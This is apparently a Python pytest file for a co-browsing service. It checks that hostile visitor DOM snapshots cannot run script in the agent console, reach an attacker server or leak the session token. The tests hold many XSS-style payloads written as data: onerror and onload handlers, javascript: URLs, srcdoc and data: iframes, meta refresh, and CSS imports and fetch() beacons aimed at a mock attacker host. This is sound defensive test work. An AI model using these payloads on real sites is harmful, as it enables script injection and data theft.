"""A hostile visitor cannot reach the agent (issue 17, point 7).

A raw visitor client (tests/server/clients.Visitor: no SDK, no capture) sends
hand-made snapshots, changes and events straight to the real service; the
agent console is open in Chromium and joined. An attacker's HTTP server on
another loopback port counts every request it gets. The tests check what the
agent sees and what their browser does:
- no script runs in the console's origin or in the copy (markers, dialogs);
- no request reaches the attacker (the copy loads nothing the visitor chose);
- no Authorization header goes to another origin, no URL carries the token;
- a visitordocument whose URL the service did not issue is refused by the
  service, and documents it did issue still download.
"""
import http.server
import json
import os
import re
import tempfile
import threading
import time
import urllib.request

import pytest

from session_server.agent_client import AgentClient
from tests.browser.test_cobrowse_view import open_console
from tests.conftest import ROOT, Server, free_port, poll_wait_for_function
from tests.server.clients import Visitor

CSV = b"sku,name,price\nK-1,Blue Kettle,39.00\n"
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c63f8ffff3f0005fe02fea7d6a4440000000049454e44ae426082")
PWN = "try{parent.__pwned=1;top.__pwned=1}catch(e){};alert('pwned')"


class Attacker:
    """An HTTP server on another loopback port: every request is recorded (path, headers)."""

    def __init__(self):
        self.hits = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append((self.path, {k.lower(): v for k, v in self.headers.items()}))
                if self.path.endswith(".png"):
                    body, kind = PNG, "image/png"
                elif self.path.endswith(".css"):
                    body, kind = b"body{background:url(/hit/from-css.png)}", "text/css"
                else:
                    body = ("<!doctype html><script>%s;fetch('/hit/js')</script><img src=/hit/page.png>" % PWN).encode()
                    kind = "text/html"
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_OPTIONS(self):
                hits.append((self.path, {k.lower(): v for k, v in self.headers.items()}))
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Headers", "Authorization")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.port = free_port()
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    @property
    def origin(self):
        return "http://127.0.0.1:%d" % self.port

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def attacker():
    a = Attacker()
    yield a
    a.close()


def watched_console(context, server, key, attacker):
    """The console joined to session `key`, with every request of its pages and frames and every dialog kept."""
    requests, dialogs, failed = [], [], {}
    context.on("request", lambda r: requests.append((r.url, r.headers)))
    context.on("requestfailed", lambda r: failed.setdefault(r.url, r.failure))
    console = open_console(context, server, key)
    console.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    console.requests, console.dialogs, console.failed = requests, dialogs, failed
    console.wait_for_function("window.agentConsole.status === 'joined'")
    return console


def raw_visitor(agents, server, key):
    async def go():
        v = Visitor(server.url, 72937, key)
        await v.connect()
        return v
    return agents.run(go())


def send(agents, v, name, payload):
    return agents.run(v.send("visitor_event", name=name, payload=payload))


def assert_nothing_leaked(console, server, attacker):
    token = console.evaluate("agentConsole.session && agentConsole.session.resume")
    assert token
    for url, headers in console.requests:
        assert token not in url, url
        if not url.startswith(server.url + "/"):
            assert "authorization" not in {k.lower() for k in headers}, (url, headers)
    assert attacker.hits == [], attacker.hits
    # Chromium reports a request the copy's CSP stopped before it left: its failure is "csp"
    tried = [u for u, _ in console.requests if u.startswith(attacker.origin)]
    assert [(u, console.failed.get(u)) for u in tried if console.failed.get(u) != "csp"] == []
    assert console.dialogs == []
    assert console.evaluate("window.__pwned") is None
    pwned_in_copy = console.evaluate("""() => {
      const out = [];
      const walk = (w) => { try { if (w.__pwned !== undefined) out.push(w.location.href);
        for (let i = 0; i < w.frames.length; i++) walk(w.frames[i]); } catch (e) { /* cross-origin */ } };
      walk(window); return out; }""")
    assert pwned_in_copy == []


def hostile_snapshot(a):
    """Records in the capture's format (visitor_sdk/capture_rules.py) that try every way in."""
    img = a + "/hit/"
    nodes = [
        [1, "html", 0, 2],
        [2, "head", 0, 6],
        [3, "META", {"HTTP-EQUIV": "refresh", "content": "0;url=" + img + "refresh"}, 0],
        [4, "link", {"rel": "stylesheet", "href": img + "link.css"}, 0],
        [5, "link", {"REL": "prefetch", "href": img + "prefetch.png"}, 0],
        [6, "style", 0, 1],
        [-1, "@import url('%simport.css'); @font-face{font-family:evil;src:url(%sfont.woff)}"
             " body{background:url(%scss-bg.png)} .f{font-family:evil}" % (img, img, img)],
        [7, "base", {"href": a + "/base/"}, 0],
        [8, "script", {"src": img + "script.js"}, 1],
        [-2, PWN],
        [9, "body", {"ONLOAD": PWN}, 17],
        [10, "img", {"src": img + "x.png", "ONERROR": PWN + ";fetch('" + img + "onerror')"}, 0],
        [11, "img", {"SRC": img + "upper-src.png"}, 0],
        [12, "iframe", {"SRCDOC": "<script>%s</script><img src=%ssrcdoc.png>" % (PWN, img), "SRC": a + "/page.html"}, 0],
        [13, "object", {"data": a + "/object.html", "type": "text/html"}, 0],
        [14, "embed", {"src": a + "/embed.html", "type": "text/html"}, 0],
        [15, "video", {"poster": img + "poster.png", "src": img + "video.png"}, 0],
        [16, "a", {"href": "javascript:" + PWN, "id": "js-link"}, 1],
        [-3, "click me"],
        [17, "div", {"STYLE": "background-image:url(%sinline-bg.png)" % img, "class": "f"}, 1],
        [-4, "styled"],
        [18, "img", {"src": "relative-to-base.png"}, 0],
        [19, "canvas", {"width": "10", "height": "10"}, 0, {"img": img + "canvas.png"}],
        [20, "svg:svg", {"width": "10", "height": "10"}, 2],
        [21, "svg:script", 0, 1],
        [-5, PWN],
        [22, "svg:image", {"href": img + "svg-image.png", "width": "5", "height": "5"}, 0],
        [23, "iframe", 0, 1, {"fd": ["html><img src=%sdoctype-frame.png><script>%s</script" % (img, PWN), 0, 0]}],
        [24, "html", 0, 1],
        [25, "body", {"onload": PWN}, 1],
        [26, "img", {"src": img + "inner-frame.png"}, 0],
        [27, "input", {"type": "image", "src": img + "input.png"}, 0],
        [28, "img", {"srcset": img + "srcset.png 1x"}, 0],
        [29, "form", {"action": "javascript:" + PWN}, 0],
        [30, "iframe", {"src": "data:text/html,<script>%s</script>" % PWN}, 0],
        [31, "img", {"src": "vbscript:msgbox(1)", "data-x": "1"}, 0],
    ]
    meta = {"url": a + "/shop", "title": "Hostile", "vp": [800, 600], "scroll": [0, 0], "masked": False,
            "base": a + "/base/",
            "doctype": "html><img src=%sdoctype.png onerror=\"%s\"><script>%s</script" % (img, PWN, PWN)}
    return {"s": 1, "i": 0, "n": 1, "nodes": nodes, "meta": meta}


def hostile_changes(a):
    img = a + "/hit/"
    return {"s": 1, "q": 1,
            "a": [[11, {"SRC": img + "changed-src.png", "OnLoad": PWN}],
                  [17, {"style": "background:url(%schanged-bg.png)" % img}],
                  [12, {"Src": a + "/changed-frame.html", "srcDoc": "<script>%s</script>" % PWN}],
                  [3, {"http-equiv": "refresh", "content": "0;url=" + img + "refresh2"}],
                  [16, {"HREF": " jAvAsCrIpT:" + PWN}],
                  [4, {"rel": "preload", "as": "image"}]],
            "c": [[9, [10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 23, 27, 28, 29, 30, 31,
                       [[40, "EMBED", {"SRC": a + "/added.html"}, 0]],
                       [[41, "img", {"src": img + "added.png", "onerror": PWN}, 0]],
                       [[42, "Object", {"DATA": a + "/added-object.html"}, 0]]]]],
            "cv": [[19, img + "canvas2.png"]],
            "css": [[6, "@import url(%simport2.css); p{background:url(%scss2.png)}" % (img, img)]]}


def test_a_hostile_snapshot_runs_nothing_and_loads_nothing_the_visitor_chose(context, server, agents, attacker):
    v = raw_visitor(agents, server, "hostile-copy-1")
    console = watched_console(context, server, "hostile-copy-1", attacker)
    send(agents, v, "dom_snapshot", hostile_snapshot(attacker.origin))
    console.wait_for_function("window.agentReplay.snapshots >= 1")
    send(agents, v, "dom_changes", hostile_changes(attacker.origin))
    console.wait_for_function("window.agentReplay.batches >= 1")
    console.wait_for_timeout(1500)   # time for anything that would load or run
    assert_nothing_leaked(console, server, attacker)

    # the copy was built: its visible, harmless parts are there
    copy = console.evaluate("""() => { const d = agentReplay.doc(); return {
      styled: d.querySelector('[data-gid="17"]').textContent,
      link: d.querySelector('[data-gid="16"]').getAttribute('href'),
      blocked: [13, 14, 8].map(g => d.querySelector('[data-gid="' + g + '"]').localName),
      frames: [...d.querySelectorAll('iframe')].map(f => [f.getAttribute('src'), f.getAttribute('srcdoc')]),
      onattrs: [...d.querySelectorAll('*')].flatMap(e => [...e.attributes].map(x => x.name))
        .filter(n => /^on|srcdoc|http-equiv/i.test(n)),
      doctype: d.doctype ? [d.doctype.name, d.doctype.publicId, d.doctype.systemId] : null,
      heads: d.querySelectorAll('head').length, images: d.querySelectorAll('img[src*="doctype"]').length,
    }; }""")
    assert copy["styled"] == "styled"
    assert copy["link"] is None                      # the javascript: href was refused
    assert copy["blocked"] == ["glance-blocked"] * 3  # object, embed, script: inert placeholders
    assert copy["frames"] and all(f == ["about:blank", None] for f in copy["frames"])
    assert copy["onattrs"] == []
    assert copy["doctype"] is None                   # the injected doctype is not a name: no doctype
    assert copy["images"] == 0
    assert console.get_attribute("#replay-frame", "sandbox") == "allow-same-origin"


def test_the_console_and_its_copy_have_strict_policies(server):
    with urllib.request.urlopen(server.url + "/agent", timeout=5) as r:
        csp = r.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert "object-src 'none'" in csp and "base-uri 'none'" in csp
    with urllib.request.urlopen(server.url + "/agent/copy?group=72937&doctype=html%3E%3Cscript%3E", timeout=5) as r:
        copy_csp, body = r.headers["Content-Security-Policy"], r.read().decode()
    assert "script-src 'none'" in copy_csp and "default-src 'none'" in copy_csp
    assert "<script" not in body and body.startswith("<html>")
    with urllib.request.urlopen(server.url + "/agent/copy?group=72937&doctype=html", timeout=5) as r:
        assert r.read().decode().startswith("<!DOCTYPE html><html>")
    # the demo's other pages keep theirs (the SDK itself is tested under strict CSP elsewhere)
    with urllib.request.urlopen(server.url + "/", timeout=5) as r:
        assert r.headers.get("Content-Security-Policy") is None


def test_a_visitordocument_the_service_did_not_issue_is_refused(context, server, agents, attacker):
    v = raw_visitor(agents, server, "hostile-doc-1")
    console = watched_console(context, server, "hostile-doc-1", attacker)
    other = raw_visitor(agents, server, "hostile-doc-2")

    # a document of another session (uploaded with that session's ticket): its URL is real, not this session's
    async def upload_for(vis):
        a = AgentClient(server.url, 72937, vis.key, "mary.glance.net", "demo-supervisor")
        await a.join()
        await a.action("docsharerequest", {})
        await vis.wait(lambda x: x.of("agent_action", "docsharerequest"))
        ticket = vis.of("agent_action", "docsharerequest")[-1]["payload"]["upload"]["ticket"]
        await a.leave()
        return ticket

    ticket = agents.run(upload_for(other))
    req = urllib.request.Request(server.url + "/api/docs?name=other.csv&ticket=" + ticket, data=CSV, method="POST")
    with urllib.request.urlopen(req, timeout=5) as r:
        other_url = server.url + json.loads(r.read())["url"]

    forged = [attacker.origin + "/api/docs/abc/statement.pdf",      # the attacker's server
              attacker.origin + other_url[len(server.url):],         # a real path on another server
              other_url,                                             # another session's document
              "javascript:" + PWN,
              server.url + "/api/docs/../../agent"]
    for i, url in enumerate(forged):
        send(agents, v, "visitordocument", {"name": "statement-%d.pdf" % i, "size": 10, "url": url})
        err = agents.run(v.wait_error("bad_frame"))
        assert "visitordocument" in err["msg"] and not err["fatal"], err
        v.errors.clear()
    # the visitor is still connected: a normal event goes through after the refusals
    send(agents, v, "accessibility", {"enabled": False})
    console.wait_for_function("agentConsole.frames.some(f => f.name === 'accessibility')")
    assert console.evaluate("agentConsole.frames.filter(f => f.name === 'visitordocument').length") == 0
    assert console.locator(".doc-download").count() == 0

    # the console's "Request document" hands the visitor an upload ticket; the URL the service issues downloads
    console.click("#act-docsharerequest")
    agents.run(v.wait(lambda x: x.of("agent_action", "docsharerequest")))
    up = v.of("agent_action", "docsharerequest")[-1]["payload"]["upload"]
    req = urllib.request.Request(server.url + up["path"] + "?name=statement.csv&ticket=" + up["ticket"],
                                 data=CSV, method="POST")
    with urllib.request.urlopen(req, timeout=5) as r:
        info = json.loads(r.read())
    send(agents, v, "visitordocument", {"name": "statement.csv", "size": len(CSV), "url": server.url + info["url"]})
    console.wait_for_selector(".doc-download")
    with console.expect_download() as dl:
        console.click(".doc-download")
    with open(dl.value.path(), "rb") as f:
        assert f.read() == CSV
    assert v.errors == []
    sent = [(u, h) for u, h in console.requests if "/api/docs/" in u and "authorization" in {k.lower() for k in h}]
    assert sent and all(u.startswith(server.url + "/api/docs/") for u, _ in sent)
    assert_nothing_leaked(console, server, attacker)
    agents.run(v.close())
    agents.run(other.close())


@pytest.fixture
def opted_in_server(attacker):
    """A service whose demo group lets the copy load from the 'attacker' (here: the group's own CDN)."""
    srv = Server()
    with open(os.path.join(ROOT, "session_server", "groups.toml"), encoding="utf-8") as f:
        text = f.read().replace(":8000", ":%d" % srv.port)
    text = text.replace('[groups.72937]\n', '[groups.72937]\nagent_asset_origins = ["%s"]\n' % attacker.origin, 1)
    path = os.path.join(tempfile.mkdtemp(prefix="cobrowse-groups-"), "groups.toml")
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)
    srv.env["COBROWSE_GROUPS"] = path
    srv.start()
    yield srv
    srv.stop()


def test_opted_in_asset_origins_load_directly_without_credentials(context, opted_in_server, agents, attacker):
    server = opted_in_server
    v = raw_visitor(agents, server, "hostile-optin-1")
    console = watched_console(context, server, "hostile-optin-1", attacker)
    img = attacker.origin + "/hit/"
    send(agents, v, "dom_snapshot", {"s": 1, "i": 0, "n": 1, "meta": {"url": attacker.origin + "/", "vp": [400, 300],
                                                                      "scroll": [0, 0], "doctype": "html"},
                                     "nodes": [[1, "html", 0, 2], [2, "head", 0, 0], [3, "body", 0, 2],
                                               [4, "img", {"src": img + "allowed.png"}, 0],
                                               [5, "script", {"src": img + "script.js"}, 0]]})
    console.wait_for_function("window.agentReplay.snapshots >= 1")
    deadline = time.monotonic() + 5
    while not attacker.hits and time.monotonic() < deadline:
        time.sleep(0.1)
    token = console.evaluate("agentConsole.session.resume")
    assert [p for p, _ in attacker.hits] == ["/hit/allowed.png"]       # the image, never the script
    path, headers = attacker.hits[0]
    assert "authorization" not in headers and "cookie" not in headers and "referer" not in headers
    assert token not in path
    assert console.evaluate("agentReplay.doc().querySelector('img').naturalWidth") == 1
    console.close()   # before this test's own service stops (the console would try to rejoin it)


def test_the_console_sends_its_token_only_to_the_service_even_if_a_foreign_url_reaches_it(context, server, agents,
                                                                                         attacker):
    """Defence in depth: a relay that let a foreign visitordocument through (simulated by rewriting the
    console's incoming frames) still does not make the console fetch it, with or without the token."""
    requests = []
    context.on("request", lambda r: requests.append((r.url, r.headers)))
    v = raw_visitor(agents, server, "hostile-slip-1")
    console = poll_wait_for_function(context.new_page())
    console.set_default_timeout(10000)

    def relay(ws):
        srv = ws.connect_to_server()
        ws.on_message(lambda m: srv.send(m))

        def down(m):
            f = json.loads(m) if isinstance(m, str) else None
            if f and f.get("type") == "visitor_event" and f.get("name") == "slipped-through":
                f["name"] = "visitordocument"
                m = json.dumps(f)
            ws.send(m)
        srv.on_message(down)
    console.route_web_socket(re.compile(r".*/ws/agent.*"), relay)
    console.goto(server.url + "/agent")
    console.wait_for_function("!!window.agentConsole")
    console.click("#login-submit")
    console.wait_for_selector("#sessions-panel:not([hidden])")
    console.fill("#join-key", "hostile-slip-1")
    console.click("#join-key-submit")
    console.wait_for_function("window.agentConsole.status === 'joined'")
    for url in [attacker.origin + "/api/docs/abc/statement.pdf", "javascript:" + PWN,
                server.url.replace("127.0.0.1", "localhost") + "/api/docs/abc/statement.pdf"]:
        console.evaluate("document.getElementById('doc-error').textContent = ''")
        send(agents, v, "slipped-through", {"name": "statement.pdf", "size": 10, "url": url})
        button = console.locator(".doc-download").first
        button.wait_for()
        button.click()
        console.wait_for_function("document.getElementById('doc-error').textContent !== ''")
        assert "not on this service" in console.inner_text("#doc-error")
        console.evaluate("document.querySelectorAll('.doc-download').forEach(b => b.remove())")
    console.wait_for_timeout(500)
    token = console.evaluate("agentConsole.session.resume")
    assert attacker.hits == []
    assert [u for u, _ in requests if "/api/docs/abc/" in u or token in u] == []


def test_the_allow_list_matches_names_without_case_and_refuses_active_urls(context, server):
    console = poll_wait_for_function(context.new_page())
    console.goto(server.url + "/agent")
    got = console.evaluate("""() => { const R = window.agentReplayRules, a = (el, n, v, svg) => R.attr(el, n, v, !!svg);
      return {
        refused: [a('img', 'ONERROR', 'x'), a('img', 'OnLoad', 'x'), a('iframe', 'SRCDOC', '<b>'), a('iframe', 'SRC', 'http://e/'),
                  a('meta', 'HTTP-EQUIV', 'refresh'), a('meta', 'content', '0;url=http://e/'), a('a', 'HREF', 'javascript:x'),
                  a('a', 'href', ' java\\tscript:x'), a('a', 'href', 'JaVaScRiPt:x'), a('a', 'href', 'vbscript:x'),
                  a('iframe', 'src', 'data:text/html,<script>x</script>'), a('img', 'src', 'data:text/html,x'),
                  a('img', 'src', 'blob:http://e/1'), a('form', 'ACTION', 'http://e/'), a('button', 'formaction', 'x'),
                  a('a', 'ping', 'http://e/'), a('use', 'href', 'http://e/s.svg#a', 1), a('a', 'href', 'javascript:x', 1),
                  a('img', 'srcset', 'javascript:x 1x'), a('svg', 'xml:base', 'http://e/', 1), a('img', 'is', 'x')],
        kept: [a('img', 'SRC', 'https://shop.example/a.png'), a('div', 'Class', 'x'), a('div', 'DATA-State', 'open'),
               a('svg', 'VIEWBOX', '0 0 1 1', 1), a('use', 'href', '#icon', 1), a('link', 'REL', 'Stylesheet'),
               a('link', 'rel', 'preload'), a('img', 'src', 'data:image/png;base64,AAAA'), a('div', 'x-cloak', ''),
               a('a', 'href', 'mailto:a@b.example'), a('img', 'src', 'rel.png'), a('div', 'style', null)],
        elements: ['SCRIPT', 'Object', 'embed', 'BASE', 'frame', 'svg:script', 'svg:SET', 'svg:foo', 'IMG', 'my-widget',
                   'svg:LINEARGRADIENT', 'blink'].map(t => { const e = R.element(t); return e.blocked ? 'blocked' : e.name; }),
        doctypes: [R.doctype('html'), R.doctype('html><script>'), R.doctype(['html', '-//W3C//DTD HTML 4.01//EN', '']),
                   R.doctype(['html', 'x"><script>', ''])].map(d => d && d.text),
        canvas: [R.canvasImage('data:image/png;base64,iVBOR'), R.canvasImage('http://e/x.png'),
                 R.canvasImage('data:image/svg+xml,<svg>')],
      }; }""")
    assert got["refused"] == [None] * len(got["refused"])
    assert got["kept"] == [["src", "https://shop.example/a.png"], ["class", "x"], ["data-state", "open"],
                           ["viewBox", "0 0 1 1"], ["href", "#icon"], ["rel", "stylesheet"], ["rel", None],
                           ["src", "data:image/png;base64,AAAA"], ["x-cloak", ""], ["href", "mailto:a@b.example"],
                           ["src", "rel.png"], ["style", None]]
    assert got["elements"] == ["blocked"] * 8 + ["img", "my-widget", "linearGradient", "span"]
    assert got["doctypes"] == ["<!DOCTYPE html>", None, '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN">',
                               "<!DOCTYPE html>"]
    assert got["canvas"] == [True, False, False]
